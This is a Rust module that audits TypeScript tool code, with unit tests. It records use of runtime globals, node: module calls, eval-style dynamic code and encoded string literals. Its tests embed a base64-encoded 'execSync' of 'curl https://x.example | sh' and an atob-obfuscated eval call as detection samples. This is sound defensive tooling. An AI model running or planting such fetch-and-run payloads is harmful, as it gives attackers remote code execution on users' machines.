//! What a tool's code reaches besides the modules it imports, read from its syntax tree with
//! the scope analysis [`tool_parse`](super::tool_parse) already made: the runtime's globals it
//! uses (`fetch`, `Bun.spawn`, `process.env`) with their member path, what it does with the
//! `node:` modules it imports (`writeFile` of `node:fs`), code it makes at run time (`eval`, the
//! `Function` constructor, a string given to a timer, a global reached by a computed name), and
//! long string literals that are base64 or hex, decoded ([`encoded`]). The tool
//! policy (TL-4) leaves few modules to import, so a tool reaches the network, the shell or the
//! file system mostly through these globals. The audit judges them; the capability report
//! gives a tool the classes of the globals its closure uses.
//!
//! A name is global when no binding of the file declares it; a `declare`d binding counts as
//! global too, since TypeScript erases it. Member paths follow static property access
//! (`Bun.spawn`, `Bun["spawn"]`; `globalThis.fetch` and `window.fetch` are `fetch`),
//! TypeScript's `as`, `satisfies` and `!`, optional chaining, and `const` aliases and
//! destructuring (`const b = Bun; b.spawn()`, `const { spawn } = Bun`), a few hops deep. A
//! global that escapes further (passed to a function, stored in an object) is still recorded,
//! by its bare name: a use is never lost, only the member path past the point where the code
//! stops saying it. `typeof fetch` is a test, not a use, and is left out.

use std::ops::Range;

use oxc_ast::AstKind;
use oxc_ast::ast::{
    Argument, BinaryExpression, BindingPatternKind, CallExpression, ChainElement, Expression,
    IdentifierReference, ImportDeclarationSpecifier, MemberExpression, MetaProperty, NewExpression,
    StaticMemberExpression, StringLiteral, TemplateLiteral, UnaryExpression,
    VariableDeclarationKind,
};
use oxc_ast_visit::{Visit, walk};
use oxc_semantic::{Semantic, SymbolFlags, SymbolId};
use oxc_span::{GetSpan, Span};

use super::encoded::{self, Decoded, Encoding};

/// The names of the global object itself: `globalThis.fetch` is `fetch`.
const GLOBAL_OBJECTS: [&str; 4] = ["globalThis", "window", "self", "global"];

/// Globals whose members reached by a computed name could be anything the runtime offers.
const OPAQUE_WHEN_COMPUTED: [&str; 7] = [
    "globalThis",
    "window",
    "self",
    "global",
    "Bun",
    "process",
    "Reflect",
];

/// How many `const` hops an alias is followed.
const MAX_ALIAS_HOPS: usize = 4;

/// A use of a global of the runtime.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GlobalUse {
    /// The member path, `Bun.spawn`, `process.env.HOME`, `import.meta.env`; the global object's
    /// own names are left out (`globalThis.fetch` is `fetch`).
    pub path: String,
    /// The path's text in the file (the alias's, when used through one).
    pub span: Range<usize>,
    /// Whether the path is called or constructed right there.
    pub called: bool,
}

/// A use of what a `node:` module exports.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ModuleUse {
    pub module: String,
    /// The member path below the module, `writeFile`, `promises.rm`; empty for the module
    /// object itself.
    pub path: String,
    pub span: Range<usize>,
}

/// Code made at run time rather than written in the file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DynamicKind {
    /// `eval`, called or passed on.
    Eval,
    /// The `Function` constructor (`new Function(…)`, `Function(…)`), or the constructor of a
    /// function reached through `.constructor`.
    FunctionConstructor,
    /// A string given to `setTimeout`, `setInterval` or `setImmediate`, which evaluate it.
    StringTimer,
    /// A member of the global object, `Bun` or `process` reached by a computed name
    /// (`globalThis[name]`): what it is cannot be read from the code.
    ComputedGlobal,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DynamicCode {
    pub kind: DynamicKind,
    pub span: Range<usize>,
}

/// A long base64 or hex string literal.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EncodedLiteral {
    /// The literal, quotes included.
    pub span: Range<usize>,
    pub encoding: Encoding,
    pub length: usize,
    pub decoded: Decoded,
    /// The start of the decoded text, when it is text.
    pub preview: String,
}

/// Everything a file reaches besides its imports.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Reach {
    /// In order of appearance.
    pub globals: Vec<GlobalUse>,
    pub module_uses: Vec<ModuleUse>,
    pub dynamic: Vec<DynamicCode>,
    pub encoded: Vec<EncodedLiteral>,
}

impl Reach {
    /// The same, with every span moved `by` bytes on.
    pub fn shifted(mut self, by: usize) -> Reach {
        let shift = |span: &mut Range<usize>| *span = span.start + by..span.end + by;
        self.globals
            .iter_mut()
            .for_each(|use_| shift(&mut use_.span));
        self.module_uses
            .iter_mut()
            .for_each(|use_| shift(&mut use_.span));
        self.dynamic
            .iter_mut()
            .for_each(|code| shift(&mut code.span));
        self.encoded
            .iter_mut()
            .for_each(|literal| shift(&mut literal.span));
        self
    }
}

/// Reads what `program` reaches, with the scopes `semantic` resolved.
pub fn of<'a>(program: &oxc_ast::ast::Program<'a>, semantic: &Semantic<'a>) -> Reach {
    let mut collector = Collector {
        semantic,
        reach: Reach::default(),
    };
    collector.visit_program(program);
    let mut reach = collector.reach;
    reach.globals.sort_by_key(|use_| use_.span.start);
    reach.module_uses.sort_by_key(|use_| use_.span.start);
    reach.dynamic.sort_by_key(|code| code.span.start);
    reach.encoded.sort_by_key(|literal| literal.span.start);
    reach
}

/// Where a chain of member accesses starts.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Origin {
    /// A global, by its path.
    Global(String),
    /// A `node:` module, and the path within it.
    Module(String, String),
}

/// A chain of static member accesses from an [`Origin`], such as `Bun.spawn`.
struct Chain<'r, 'a> {
    origin: Origin,
    segments: Vec<String>,
    span: Span,
    /// Computed keys met on the way, whose expressions are visited apart.
    keys: Vec<&'r Expression<'a>>,
    /// A key that is not a literal ended the chain here: what follows is unknown.
    ended: bool,
    /// Where that key was.
    computed_at: Option<(Span, String)>,
}

fn range(span: Span) -> Range<usize> {
    span.start as usize..span.end as usize
}

fn join(base: &str, segments: &[String]) -> String {
    let mut path = base.to_owned();
    for segment in segments {
        if !path.is_empty() {
            path.push('.');
        }
        path.push_str(segment);
    }
    path
}

/// `globalThis.fetch` is `fetch`; `globalThis` alone stays.
fn normalise(path: &str) -> String {
    let mut path = path;
    loop {
        let stripped = GLOBAL_OBJECTS.iter().find_map(|name| {
            path.strip_prefix(name)
                .and_then(|rest| rest.strip_prefix('.'))
        });
        match stripped {
            Some(rest) => path = rest,
            None => return path.to_owned(),
        }
    }
}

struct Collector<'s, 'a> {
    semantic: &'s Semantic<'a>,
    reach: Reach,
}

impl<'a> Collector<'_, 'a> {
    /// Where `reference` comes from: a global, a `node:` module's binding, or a `const` alias
    /// of one of those.
    fn origin(
        &self,
        reference: &IdentifierReference<'a>,
        hops: usize,
    ) -> Option<(Origin, Vec<String>)> {
        let scoping = self.semantic.scoping();
        let symbol = match reference.reference_id.get() {
            None => None,
            Some(id) => {
                let reference = scoping.get_reference(id);
                // A name in a type (`let r: Response`, `typeof fetch` in a type) is erased.
                let flags = reference.flags();
                if flags.is_type() || flags.is_value_as_type() || !flags.is_value() {
                    return None;
                }
                reference.symbol_id()
            }
        };
        match symbol {
            None => Some((Origin::Global(reference.name.to_string()), Vec::new())),
            Some(symbol) if scoping.symbol_flags(symbol).contains(SymbolFlags::Ambient) => {
                Some((Origin::Global(reference.name.to_string()), Vec::new()))
            }
            Some(symbol) if hops < MAX_ALIAS_HOPS => self.alias(symbol, hops + 1),
            Some(_) => None,
        }
    }

    /// What the binding `symbol` holds, when it is an import from a `node:` module or a
    /// `const` initialised from a global or such an import.
    fn alias(&self, symbol: SymbolId, hops: usize) -> Option<(Origin, Vec<String>)> {
        let nodes = self.semantic.nodes();
        let declaration = self.semantic.scoping().symbol_declaration(symbol);
        match nodes.kind(declaration) {
            AstKind::ImportSpecifier(_)
            | AstKind::ImportDefaultSpecifier(_)
            | AstKind::ImportNamespaceSpecifier(_) => {
                let AstKind::ImportDeclaration(import) = nodes.parent_kind(declaration) else {
                    return None;
                };
                let module = import.source.value.as_str();
                if import.import_kind.is_type() || !module.starts_with("node:") {
                    return None;
                }
                let specifier = import
                    .specifiers
                    .iter()
                    .flatten()
                    .find(|specifier| specifier.local().symbol_id.get() == Some(symbol))?;
                let path = match specifier {
                    ImportDeclarationSpecifier::ImportSpecifier(named) => {
                        if named.import_kind.is_type() {
                            return None;
                        }
                        named.imported.name().to_string()
                    }
                    // The module object: `node:` modules are CommonJS, their default is it.
                    _ => String::new(),
                };
                Some((Origin::Module(module.to_owned(), path), Vec::new()))
            }
            AstKind::VariableDeclarator(declarator) => {
                if declarator.kind != VariableDeclarationKind::Const {
                    return None;
                }
                let init = declarator.init.as_ref()?;
                let chain = self.chain_at(init, hops)?;
                if chain.ended {
                    return None;
                }
                let mut segments = chain.segments;
                match &declarator.id.kind {
                    BindingPatternKind::BindingIdentifier(_) => {}
                    BindingPatternKind::ObjectPattern(pattern) => {
                        let property = pattern.properties.iter().find(|property| {
                            !property.computed
                                && matches!(&property.value.kind,
                                    BindingPatternKind::BindingIdentifier(binding)
                                        if binding.symbol_id.get() == Some(symbol))
                        })?;
                        segments.push(property.key.static_name()?.to_string());
                    }
                    _ => return None,
                }
                Some((chain.origin, segments))
            }
            _ => None,
        }
    }

    /// The chain `expression` is, if it starts at a global or a `node:` module.
    fn chain<'r>(&self, expression: &'r Expression<'a>) -> Option<Chain<'r, 'a>> {
        self.chain_at(expression, 0)
    }

    fn chain_at<'r>(&self, expression: &'r Expression<'a>, hops: usize) -> Option<Chain<'r, 'a>> {
        let inner = expression.get_inner_expression();
        match inner {
            Expression::Identifier(reference) => {
                let (origin, segments) = self.origin(reference, hops)?;
                Some(Chain {
                    origin,
                    segments,
                    span: reference.span,
                    keys: Vec::new(),
                    ended: false,
                    computed_at: None,
                })
            }
            Expression::MetaProperty(meta) if is_import_meta(meta) => Some(Chain {
                origin: Origin::Global("import.meta".to_owned()),
                segments: Vec::new(),
                span: meta.span,
                keys: Vec::new(),
                ended: false,
                computed_at: None,
            }),
            Expression::CallExpression(call) => {
                let module = self.required_module(call)?;
                Some(Chain {
                    origin: Origin::Module(module, String::new()),
                    segments: Vec::new(),
                    span: call.span,
                    keys: Vec::new(),
                    ended: false,
                    computed_at: None,
                })
            }
            Expression::ChainExpression(chain) => match &chain.expression {
                ChainElement::CallExpression(_) | ChainElement::TSNonNullExpression(_) => None,
                element => self.member_chain(element.as_member_expression()?, hops),
            },
            _ => self.member_chain(inner.as_member_expression()?, hops),
        }
    }

    fn member_chain<'r>(
        &self,
        member: &'r MemberExpression<'a>,
        hops: usize,
    ) -> Option<Chain<'r, 'a>> {
        let (object, property, key) = match member {
            MemberExpression::StaticMemberExpression(member) => {
                (&member.object, Some(member.property.name.to_string()), None)
            }
            MemberExpression::ComputedMemberExpression(member) => (
                &member.object,
                member.static_property_name().map(|name| name.to_string()),
                Some(&member.expression),
            ),
            MemberExpression::PrivateFieldExpression(_) => return None,
        };
        let mut chain = self.chain_at(object, hops)?;
        chain.span = member.span();
        if chain.ended {
            chain.keys.extend(key);
            return Some(chain);
        }
        match property {
            Some(name) => chain.segments.push(name),
            None => {
                let so_far = self.path_of(&chain);
                chain.keys.extend(key);
                chain.ended = true;
                chain.computed_at = Some((member.span(), so_far));
            }
        }
        Some(chain)
    }

    /// `require('node:…')` of the global `require`: the module.
    fn required_module(&self, call: &CallExpression<'a>) -> Option<String> {
        let Expression::Identifier(callee) = call.callee.get_inner_expression() else {
            return None;
        };
        if callee.name != "require" || !self.is_global(callee) {
            return None;
        }
        let [Argument::StringLiteral(literal)] = call.arguments.as_slice() else {
            return None;
        };
        let module = literal.value.as_str();
        module.starts_with("node:").then(|| module.to_owned())
    }

    fn is_global(&self, reference: &IdentifierReference<'a>) -> bool {
        matches!(
            self.origin(reference, MAX_ALIAS_HOPS),
            Some((Origin::Global(_), _))
        )
    }

    /// The path a chain has reached, normalised.
    fn path_of(&self, chain: &Chain) -> String {
        match &chain.origin {
            Origin::Global(root) => normalise(&join(root, &chain.segments)),
            Origin::Module(_, base) => join(base, &chain.segments),
        }
    }

    /// Records the use a chain is, and what it makes at run time.
    fn record(&mut self, chain: &Chain, called: bool) {
        let path = self.path_of(chain);
        let span = range(chain.span);
        match &chain.origin {
            Origin::Global(_) => {
                let kind = match path.as_str() {
                    "eval" => Some(DynamicKind::Eval),
                    "Function" | "Function.prototype.constructor" => {
                        Some(DynamicKind::FunctionConstructor)
                    }
                    _ => None,
                };
                if let Some(kind) = kind {
                    self.reach.dynamic.push(DynamicCode {
                        kind,
                        span: span.clone(),
                    });
                }
                if let Some((at, so_far)) = &chain.computed_at {
                    if OPAQUE_WHEN_COMPUTED.contains(&so_far.as_str()) {
                        self.reach.dynamic.push(DynamicCode {
                            kind: DynamicKind::ComputedGlobal,
                            span: range(*at),
                        });
                    }
                }
                self.reach.globals.push(GlobalUse { path, span, called });
            }
            Origin::Module(module, _) => self.reach.module_uses.push(ModuleUse {
                module: module.clone(),
                path,
                span,
            }),
        }
    }

    /// Records a chain and visits the computed keys it holds.
    fn record_and_visit_keys(&mut self, chain: Chain<'_, 'a>, called: bool) {
        self.record(&chain, called);
        for key in chain.keys {
            self.visit_expression(key);
        }
    }

    /// Records a long base64 or hex literal.
    fn encoded(&mut self, value: &str, span: Span) {
        if let Some(found) = encoded::recognise(value) {
            self.reach.encoded.push(EncodedLiteral {
                span: range(span),
                encoding: found.encoding,
                length: found.length,
                decoded: found.decoded,
                preview: found.preview,
            });
        }
    }

    /// A call or `new` of a chain: recorded as called, its arguments visited.
    fn callee(&mut self, callee: &Expression<'a>, arguments: &[Argument<'a>]) -> bool {
        let Some(chain) = self.chain(callee) else {
            return false;
        };
        let path = self.path_of(&chain);
        if matches!(&chain.origin, Origin::Global(_))
            && matches!(path.as_str(), "setTimeout" | "setInterval" | "setImmediate")
            && arguments.first().is_some_and(is_stringish)
        {
            self.reach.dynamic.push(DynamicCode {
                kind: DynamicKind::StringTimer,
                span: range(arguments[0].span()),
            });
        }
        self.record_and_visit_keys(chain, true);
        for argument in arguments {
            self.visit_argument(argument);
        }
        true
    }
}

fn is_import_meta(meta: &MetaProperty) -> bool {
    meta.meta.name == "import" && meta.property.name == "meta"
}

/// A string, a template or a concatenation with one: what a timer would evaluate.
fn is_stringish(argument: &Argument) -> bool {
    fn stringish(expression: &Expression) -> bool {
        match expression.get_inner_expression() {
            Expression::StringLiteral(_) | Expression::TemplateLiteral(_) => true,
            Expression::BinaryExpression(binary) => {
                stringish(&binary.left) || stringish(&binary.right)
            }
            _ => false,
        }
    }
    argument.as_expression().is_some_and(stringish)
}

/// Whether `expression` is a function's own value, whose `.constructor` is the `Function`
/// constructor (or its async and generator kin).
fn is_function_value(expression: &Expression) -> bool {
    match expression.get_inner_expression() {
        Expression::FunctionExpression(_) | Expression::ArrowFunctionExpression(_) => true,
        Expression::CallExpression(call) => {
            // `Object.getPrototypeOf(async () => {})` and the like.
            call.callee
                .as_member_expression()
                .and_then(MemberExpression::static_property_name)
                == Some("getPrototypeOf")
        }
        _ => false,
    }
}

impl<'a> Visit<'a> for Collector<'_, 'a> {
    fn visit_identifier_reference(&mut self, reference: &IdentifierReference<'a>) {
        if let Some((origin, segments)) = self.origin(reference, 0) {
            let chain = Chain {
                origin,
                segments,
                span: reference.span,
                keys: Vec::new(),
                ended: false,
                computed_at: None,
            };
            self.record(&chain, false);
        }
    }

    fn visit_member_expression(&mut self, member: &MemberExpression<'a>) {
        match self.member_chain(member, 0) {
            Some(chain) => self.record_and_visit_keys(chain, false),
            None => walk::walk_member_expression(self, member),
        }
    }

    fn visit_static_member_expression(&mut self, member: &StaticMemberExpression<'a>) {
        if member.property.name == "constructor" && is_function_value(&member.object) {
            self.reach.dynamic.push(DynamicCode {
                kind: DynamicKind::FunctionConstructor,
                span: range(member.span),
            });
        }
        walk::walk_static_member_expression(self, member);
    }

    fn visit_meta_property(&mut self, meta: &MetaProperty<'a>) {
        if is_import_meta(meta) {
            self.reach.globals.push(GlobalUse {
                path: "import.meta".to_owned(),
                span: range(meta.span),
                called: false,
            });
        }
    }

    fn visit_call_expression(&mut self, call: &CallExpression<'a>) {
        if !self.callee(&call.callee, &call.arguments) {
            walk::walk_call_expression(self, call);
        }
    }

    fn visit_new_expression(&mut self, new: &NewExpression<'a>) {
        if !self.callee(&new.callee, &new.arguments) {
            walk::walk_new_expression(self, new);
        }
    }

    fn visit_tagged_template_expression(
        &mut self,
        tagged: &oxc_ast::ast::TaggedTemplateExpression<'a>,
    ) {
        // ``Bun.$`ls` `` calls its tag.
        match self.chain(&tagged.tag) {
            Some(chain) => {
                self.record_and_visit_keys(chain, true);
                self.visit_template_literal(&tagged.quasi);
            }
            None => walk::walk_tagged_template_expression(self, tagged),
        }
    }

    fn visit_unary_expression(&mut self, unary: &UnaryExpression<'a>) {
        // `typeof fetch === "function"` asks whether there is one; it does not use it.
        if unary.operator.is_typeof() && self.chain(&unary.argument).is_some() {
            return;
        }
        walk::walk_unary_expression(self, unary);
    }

    fn visit_binary_expression(&mut self, binary: &BinaryExpression<'a>) {
        // `x instanceof Function` tests a value; it makes no code.
        if binary.operator.is_instance_of() {
            if let Some(chain) = self.chain(&binary.right) {
                if self.path_of(&chain) == "Function" {
                    self.visit_expression(&binary.left);
                    return;
                }
            }
        }
        walk::walk_binary_expression(self, binary);
    }

    fn visit_string_literal(&mut self, literal: &StringLiteral<'a>) {
        self.encoded(literal.value.as_str(), literal.span);
    }

    fn visit_template_literal(&mut self, template: &TemplateLiteral<'a>) {
        if template.expressions.is_empty() {
            if let Some(quasi) = template.quasis.first() {
                let value = quasi.value.cooked.as_ref().unwrap_or(&quasi.value.raw);
                self.encoded(value.as_str(), template.span);
            }
        }
        walk::walk_template_literal(self, template);
    }
}

#[cfg(test)]
mod tests {
    use super::super::tool_parse::{Language, parse};
    use super::DynamicKind::*;
    use super::*;

    fn reach(src: &str) -> Reach {
        let info = parse(src, Language::TYPESCRIPT).expect("parsed");
        assert!(info.syntax_errors.is_empty(), "{:?}", info.syntax_errors);
        for span in info
            .reach
            .globals
            .iter()
            .map(|use_| &use_.span)
            .chain(info.reach.module_uses.iter().map(|use_| &use_.span))
            .chain(info.reach.dynamic.iter().map(|code| &code.span))
            .chain(info.reach.encoded.iter().map(|literal| &literal.span))
        {
            assert!(src.get(span.clone()).is_some(), "{span:?}");
        }
        info.reach
    }

    /// `(path, called)` of the uses whose root is not a plain language built-in.
    fn globals(src: &str) -> Vec<(String, bool)> {
        reach(src)
            .globals
            .into_iter()
            .map(|use_| (use_.path, use_.called))
            .collect()
    }

    fn owned(pairs: &[(&str, bool)]) -> Vec<(String, bool)> {
        pairs.iter().map(|(p, c)| ((*p).to_owned(), *c)).collect()
    }

    #[test]
    fn member_paths_of_globals_with_their_spans() {
        let src = "await fetch('https://x');\nBun.spawn(['ls']);\nconst h = process.env.HOME;\n";
        let found = reach(src);
        let texts: Vec<&str> = found
            .globals
            .iter()
            .map(|use_| &src[use_.span.clone()])
            .collect();
        assert_eq!(texts, ["fetch", "Bun.spawn", "process.env.HOME"]);
        assert_eq!(
            globals(src),
            owned(&[
                ("fetch", true),
                ("Bun.spawn", true),
                ("process.env.HOME", false)
            ])
        );
    }

    #[test]
    fn the_global_object_computed_names_and_ts_wrappers() {
        assert_eq!(
            globals(
                "const u = 1; globalThis.fetch(u); window.fetch(u); (Bun as any)['$']`ls`; Bun?.spawnSync?.([]);"
            ),
            owned(&[
                ("fetch", true),
                ("fetch", true),
                ("Bun.$", true),
                ("Bun.spawnSync", true)
            ])
        );
    }

    #[test]
    fn aliases_and_destructuring_are_followed() {
        let src = "const b = Bun; b.spawn([]);\nconst { spawn: s } = Bun; s([]);\nconst f = globalThis.fetch; f(u);\n";
        let found = globals(src);
        assert!(found.contains(&("Bun.spawn".to_owned(), true)), "{found:?}");
        assert_eq!(
            found.iter().filter(|(p, c)| p == "Bun.spawn" && *c).count(),
            2,
            "{found:?}"
        );
        assert!(found.contains(&("fetch".to_owned(), true)), "{found:?}");
    }

    #[test]
    fn a_local_of_the_same_name_is_not_the_global() {
        assert_eq!(
            globals("function f(fetch: any) { return fetch(1); }"),
            owned(&[])
        );
        assert_eq!(
            globals("const Bun = { spawn() {} }; Bun.spawn();"),
            owned(&[])
        );
        // A `declare`d binding is erased: the global is what runs.
        assert_eq!(
            globals("declare const Bun: any; Bun.spawn([]);"),
            owned(&[("Bun.spawn", true)])
        );
    }

    #[test]
    fn typeof_tests_and_type_positions_are_not_uses() {
        assert_eq!(globals("if (typeof fetch === 'function') {}"), owned(&[]));
        assert_eq!(
            globals("let r: Response; type T = typeof fetch;"),
            owned(&[])
        );
        assert_eq!(
            globals("const ok = x instanceof Function;"),
            owned(&[("x", false)])
        );
    }

    #[test]
    fn escaping_globals_are_kept_by_their_bare_name() {
        assert_eq!(
            globals("use(Bun); const o = { fetch };"),
            owned(&[("use", true), ("Bun", false), ("fetch", false)])
        );
    }

    #[test]
    fn code_made_at_run_time() {
        let kinds = |src: &str| -> Vec<DynamicKind> {
            reach(src)
                .dynamic
                .into_iter()
                .map(|code| code.kind)
                .collect()
        };
        assert_eq!(kinds("eval('1');"), [Eval]);
        assert_eq!(kinds("(0, eval)('1'); globalThis.eval('2');"), [Eval, Eval]);
        assert_eq!(
            kinds("new Function('return 1')(); Function('x');"),
            [FunctionConstructor, FunctionConstructor]
        );
        assert_eq!(
            kinds("(() => {}).constructor('return process')();"),
            [FunctionConstructor]
        );
        assert_eq!(
            kinds("const AsyncFunction = Object.getPrototypeOf(async () => {}).constructor;"),
            [FunctionConstructor]
        );
        assert_eq!(
            kinds("setTimeout('alert(1)', 1); setTimeout(() => {}, 1);"),
            [StringTimer]
        );
        assert_eq!(
            kinds("globalThis[name](); Bun[k]; process.env[k];"),
            [ComputedGlobal, ComputedGlobal]
        );
        assert_eq!(kinds("class A { m() { return this.constructor; } }"), []);
        // A computed key is visited: the global inside it is seen.
        let src = "globalThis[atob('ZXZhbA==')]('1');";
        assert!(globals(src).contains(&("atob".to_owned(), true)));
    }

    #[test]
    fn what_is_done_with_node_modules() {
        let src = "import fs, { writeFileSync as w } from 'node:fs';\nimport * as p from 'node:fs/promises';\nimport { join } from 'node:path';\nw('a', 'b'); fs.promises.rm('x'); await p.appendFile('a', 'b'); join('a');\nconst { mkdirSync } = fs; mkdirSync('d');\nrequire('node:fs').unlinkSync('z');\n";
        let uses: Vec<(String, String)> = reach(src)
            .module_uses
            .into_iter()
            .map(|use_| (use_.module, use_.path))
            .collect();
        let expected: Vec<(String, String)> = [
            ("node:fs", "writeFileSync"),
            ("node:fs", "promises.rm"),
            ("node:fs/promises", "appendFile"),
            ("node:path", "join"),
            ("node:fs", ""),
            ("node:fs", "mkdirSync"),
            ("node:fs", "unlinkSync"),
        ]
        .iter()
        .map(|(m, p)| ((*m).to_owned(), (*p).to_owned()))
        .collect();
        assert_eq!(uses, expected);
    }

    #[test]
    fn import_meta_paths() {
        assert_eq!(
            globals("const r = import.meta.require('x'); const e = import.meta.env.KEY;"),
            owned(&[
                ("import.meta.require", true),
                ("import.meta.env.KEY", false)
            ])
        );
    }

    #[test]
    fn encoded_literals_with_what_they_decode_to() {
        use base64::Engine;
        let payload = base64::engine::general_purpose::STANDARD.encode(
            "require('child_process').execSync('curl https://x.example | sh') // ".repeat(4),
        );
        let src = format!("const a = '{payload}';\nconst b = `{payload}`;\nconst c = 'short';\n");
        let found = reach(&src).encoded;
        assert_eq!(found.len(), 2, "{found:?}");
        assert_eq!(found[0].decoded, Decoded::Code);
        assert_eq!(found[0].encoding, Encoding::Base64);
        assert_eq!(&src[found[0].span.clone()], format!("'{payload}'"));
    }

    #[test]
    fn spans_survive_a_byte_order_mark() {
        let src = "\u{FEFF}fetch(u);";
        let info = parse(src, Language::TYPESCRIPT).unwrap();
        assert_eq!(&src[info.reach.globals[0].span.clone()], "fetch");
    }
}
